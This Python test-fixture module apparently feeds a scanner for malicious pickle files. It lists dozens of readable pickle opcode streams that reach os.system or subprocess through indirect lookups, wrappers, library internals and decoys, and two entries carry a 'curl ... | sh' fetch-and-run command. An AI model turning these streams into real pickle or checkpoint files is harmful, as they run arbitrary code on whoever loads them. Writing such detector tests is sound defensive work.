"""Hostile streams that look up what they call, or let something else call it."""
# ruff: noqa: E501 (a case is a line)

from __future__ import annotations

from typing import Final

from .words import ALIAS, GIVEN, OS, SYSTEM, called, named

RESOLVERS: Final = {
    "getattr": (
        f"PROTO 2\nGLOBAL 'builtins getattr'\n{OS}BINUNICODE 'system'\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "getattr on an alias": (
        f"PROTO 4\nGLOBAL 'builtins getattr'\n{ALIAS}BINUNICODE 'system'\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "getattr on a copy": (
        f"PROTO 4\nGLOBAL 'builtins getattr'\nGLOBAL 'copy copy'\n{ALIAS}TUPLE1\nREDUCE\n"
        f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "getattr in three steps": (
        f"PROTO 4\nGLOBAL 'builtins getattr'\nGLOBAL 'builtins getattr'\n"
        "GLOBAL 'torch.serialization torch'\nBINUNICODE 'os'\nTUPLE2\nREDUCE\n"
        f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "getattr with a computed name": (
        f"PROTO 4\nGLOBAL 'builtins getattr'\n{ALIAS}{called('_operator', 'add', 'sys', 'tem')}"
        f"TUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "attrgetter": (
        f"PROTO 2\nGLOBAL 'operator attrgetter'\nBINUNICODE 'system'\nTUPLE1\nREDUCE\n{OS}"
        f"TUPLE1\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "attrgetter on an alias": (
        f"PROTO 4\nGLOBAL 'operator attrgetter'\nBINUNICODE 'os.system'\nTUPLE1\nREDUCE\n"
        f"GLOBAL 'torch serialization'\nTUPLE1\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "attrgetter of internals, not used": (
        "PROTO 2\nGLOBAL 'operator attrgetter'\nBINUNICODE '__globals__'\nTUPLE1\nREDUCE\nSTOP"
    ),
    "methodcaller": (
        "PROTO 2\nGLOBAL 'operator methodcaller'\nBINUNICODE 'system'\nBINUNICODE 'true'\n"
        f"TUPLE2\nREDUCE\n{OS}TUPLE1\nREDUCE\nSTOP"
    ),
    "methodcaller on an alias": (
        "PROTO 4\nGLOBAL 'operator methodcaller'\nBINUNICODE 'system'\nBINUNICODE 'true'\n"
        f"TUPLE2\nREDUCE\n{ALIAS}TUPLE1\nREDUCE\nSTOP"
    ),
    "methodcaller behind a decoy": (
        "PROTO 4\nGLOBAL 'operator methodcaller'\nBINPUT 0\nPOP\n"
        f"{ALIAS}TUPLE1\nBINPUT 1\nPOP\n"
        "BINGET 0\nBINUNICODE 'nothing'\nTUPLE1\nREDUCE\nBINGET 1\nREDUCE\nPOP\n"
        "BINGET 0\nBINUNICODE 'system'\nBINUNICODE 'true'\nTUPLE2\nREDUCE\nBINGET 1\n"
        "REDUCE\nSTOP"
    ),
    "methodcaller behind 300 decoys": (
        "PROTO 4\nGLOBAL 'operator methodcaller'\nBINPUT 0\nPOP\n"
        f"{ALIAS}TUPLE1\nBINPUT 1\nPOP\n"
        + "BINGET 0\nBINUNICODE 'nothing'\nTUPLE1\nREDUCE\nBINGET 1\nREDUCE\nPOP\n"
        * 300
        + "BINGET 0\nBINUNICODE 'system'\nBINUNICODE 'true'\nTUPLE2\nREDUCE\nBINGET 1\n"
        "REDUCE\nSTOP"
    ),
    "import_module": (
        "PROTO 2\nGLOBAL 'builtins getattr'\nGLOBAL 'importlib import_module'\n"
        "BINUNICODE 'subprocess'\nTUPLE1\nREDUCE\nBINUNICODE 'run'\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "resolve_name": (
        "PROTO 2\nGLOBAL 'pkgutil resolve_name'\nBINUNICODE 'os:system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "pydoc locate": (
        "PROTO 2\nGLOBAL 'pydoc locate'\nBINUNICODE 'os.system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "logging config": (
        "PROTO 2\nGLOBAL 'logging.config _resolve'\nBINUNICODE 'os.system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "unittest importer": (
        "PROTO 2\nGLOBAL 'unittest.mock _importer'\nBINUNICODE 'os.system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "ufunc reconstructor": (
        "PROTO 2\nGLOBAL 'numpy.core _ufunc_reconstruct'\nBINUNICODE 'os'\n"
        f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "ufunc reconstructor, not called": (
        "PROTO 2\nGLOBAL 'numpy._core _ufunc_reconstruct'\nBINUNICODE 'os'\n"
        "BINUNICODE 'system'\nTUPLE2\nREDUCE\nSTOP"
    ),
    "enum of functions": (
        "PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins getattr'\n"
        f"{OS}BINUNICODE 'system'\nTUPLE3\nREDUCE\nEMPTY_TUPLE\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "getitem of sys.modules": (
        "PROTO 2\nGLOBAL 'operator getitem'\nGLOBAL 'sys modules'\nBINUNICODE 'os'\nTUPLE2\n"
        "REDUCE\nSTOP"
    ),
    "getitem of globals": (
        "PROTO 4\nGLOBAL 'operator getitem'\n"
        + named("torch.serialization", "load.__globals__")
        + "BINUNICODE 'os'\nTUPLE2\nREDUCE\nSTOP"
    ),
    "dict of a module": (
        "PROTO 4\nGLOBAL 'operator getitem'\n"
        + named("torch.serialization", "os.__dict__")
        + f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "entry point": (
        "PROTO 4\n"
        + called("importlib.metadata", "EntryPoint", "a", "os:system", "b")
        + "STOP"
    ),
    "hydra": called("hydra.utils", "get_method", "os.system") + "STOP",
    "transformers dynamic module": called(
        "transformers.dynamic_module_utils", "get_class_from_dynamic_module", "x", "y"
    )
    + "STOP",
    "dill attribute": (
        f"PROTO 4\n{named('dill._dill', '_get_attr')}"
        f"{called('dill._dill', '_import_module', 'os')}BINUNICODE 'system'\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "cloudpickle import": (
        f"PROTO 4\n{named('builtins', 'getattr')}"
        f"{called('cloudpickle.cloudpickle', 'subimport', 'os')}BINUNICODE 'system'\nTUPLE2\n"
        f"REDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "cloudpickle function, called": (
        f"PROTO 4\n{called('cloudpickle.cloudpickle', '_builtin_type', 'FunctionType')}"
        "EMPTY_TUPLE\nREDUCE\nEMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "result of a harmless function, called": (
        f"PROTO 4\nGLOBAL 'copy copy'\nGLOBAL 'mine.tools run'\nTUPLE1\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "item of a list, called": (
        "PROTO 4\nGLOBAL 'builtins max'\nGLOBAL 'mine.tools run'\nTUPLE1\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
}

WRAPPERS: Final = {
    "partial": f"PROTO 2\nGLOBAL 'functools partial'\n{SYSTEM}TUPLE1\nREDUCE\n{GIVEN}REDUCE\nSTOP",
    "partial, not called": f"PROTO 2\nGLOBAL 'functools partial'\n{SYSTEM}TUPLE1\nREDUCE\nSTOP",
    "partial of a lookup": (
        f"PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins getattr'\n{ALIAS}"
        f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}TUPLE2\nREDUCE\nSTOP"
    ),
    "partial with its function in the state": (
        "PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins int'\nTUPLE1\nREDUCE\n"
        f"MARK\n{SYSTEM}EMPTY_TUPLE\nEMPTY_DICT\nNONE\nTUPLE\nBUILD\n{GIVEN}REDUCE\nSTOP"
    ),
    "partial with an unlisted function in the state": (
        "PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins int'\nTUPLE1\nREDUCE\n"
        "MARK\nGLOBAL 'mine.tools run'\nBINUNICODE 'curl http://127.0.0.1/x | sh'\nTUPLE1\n"
        "EMPTY_DICT\nNONE\nTUPLE\nBUILD\nEMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "partial of a methodcaller behind a decoy": (
        "PROTO 4\nGLOBAL 'functools partial'\nBINPUT 0\nGLOBAL 'mine.tools nothing'\nTUPLE1\n"
        "REDUCE\nEMPTY_TUPLE\nREDUCE\nPOP\nBINGET 0\nGLOBAL 'operator methodcaller'\n"
        f"BINUNICODE 'system'\nBINUNICODE 'true'\nTUPLE2\nREDUCE\n{ALIAS}TUPLE2\nREDUCE\n"
        "EMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "map": (
        "PROTO 2\nGLOBAL 'builtins list'\nGLOBAL 'builtins map'\n"
        f"{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "map of a methodcaller": (
        "PROTO 2\nGLOBAL 'builtins list'\nGLOBAL 'builtins map'\n"
        "GLOBAL 'operator methodcaller'\nBINUNICODE 'system'\nBINUNICODE 'true'\nTUPLE2\n"
        f"REDUCE\n{ALIAS}TUPLE1\nTUPLE2\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
    ),
    "filter": f"PROTO 2\nGLOBAL 'builtins filter'\n{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nSTOP",
    "starmap": f"PROTO 2\nGLOBAL 'itertools starmap'\n{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nSTOP",
    "partial of getattr on a copy": (
        f"PROTO 4\nGLOBAL 'functools partial'\nGLOBAL 'builtins getattr'\nGLOBAL 'copy copy'\n"
        f"{OS}TUPLE1\nREDUCE\nTUPLE2\nREDUCE\nBINUNICODE 'system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "reduce of getattr on a copy": (
        f"PROTO 4\nGLOBAL 'functools reduce'\nGLOBAL 'builtins getattr'\nGLOBAL 'copy copy'\n"
        f"{OS}TUPLE1\nREDUCE\nBINUNICODE 'system'\nTUPLE2\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "reduce of getattr on what is next": (
        "PROTO 4\nGLOBAL 'functools reduce'\nGLOBAL 'builtins getattr'\n"
        f"GLOBAL 'builtins next'\nGLOBAL 'builtins iter'\nEMPTY_LIST\n{OS}APPEND\nTUPLE1\nREDUCE\n"
        "TUPLE1\nREDUCE\nBINUNICODE 'system'\nTUPLE2\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "reduce": (
        "PROTO 2\nGLOBAL 'functools reduce'\nGLOBAL 'builtins getattr'\n"
        f"{ALIAS}BINUNICODE 'system'\nTUPLE2\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "finalize": f"PROTO 2\nGLOBAL 'weakref finalize'\nGLOBAL 'os path'\n{SYSTEM}{GIVEN}TUPLE3\nREDUCE\nSTOP",
    "atexit": f"PROTO 2\nGLOBAL 'atexit register'\n{SYSTEM}BINUNICODE 'true'\nTUPLE2\nREDUCE\nSTOP",
    "atexit with an unlisted function": (
        "PROTO 2\nGLOBAL 'atexit register'\nGLOBAL 'mine.tools run'\nTUPLE1\nREDUCE\nSTOP"
    ),
    "thread": "PROTO 2\nGLOBAL 'threading Thread'\nNONE\nGLOBAL 'mine.tools run'\nTUPLE2\nREDUCE\nSTOP",
    "timer": "PROTO 2\nGLOBAL 'threading Timer'\nBININT1 1\nGLOBAL 'mine.tools run'\nTUPLE2\nREDUCE\nSTOP",
    "signal": "PROTO 2\nGLOBAL 'signal signal'\nBININT1 2\nGLOBAL 'mine.tools run'\nTUPLE2\nREDUCE\nSTOP",
    "exit stack": (
        "PROTO 4\n"
        + named("contextlib", "ExitStack.callback")
        + "EMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "context run": f"PROTO 4\n{named('_contextvars', 'Context.run')}{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nSTOP",
    "defaultdict of a computed function": (
        f"PROTO 2\nGLOBAL 'collections defaultdict'\nGLOBAL 'mine.tools get'\n{GIVEN}REDUCE\n"
        "TUPLE1\nREDUCE\nSTOP"
    ),
    "reconstructor": (
        "PROTO 2\nGLOBAL 'copyreg __newobj__'\nGLOBAL 'subprocess Popen'\n"
        "BINUNICODE 'true'\nTUPLE2\nREDUCE\nSTOP"
    ),
    "tensor type reconstructor": (
        "PROTO 2\nGLOBAL 'torch._tensor _rebuild_from_type_v2'\nGLOBAL 'mine.tools run'\n"
        "GLOBAL 'torch Tensor'\nBINUNICODE 'curl http://127.0.0.1/x | sh'\nTUPLE1\n"
        "EMPTY_DICT\nMARK\nTUPLE\nPOP\nTUPLE3\nREDUCE\nSTOP"
    ),
    "operator.call": f"PROTO 2\nGLOBAL '_operator call'\n{SYSTEM}BINUNICODE 'true'\nTUPLE2\nREDUCE\nSTOP",
    "applier of a computed function": (
        f"PROTO 2\nGLOBAL 'builtins map'\nGLOBAL 'mine.tools get'\n{GIVEN}REDUCE\n"
        f"{GIVEN}TUPLE2\nREDUCE\nSTOP"
    ),
}
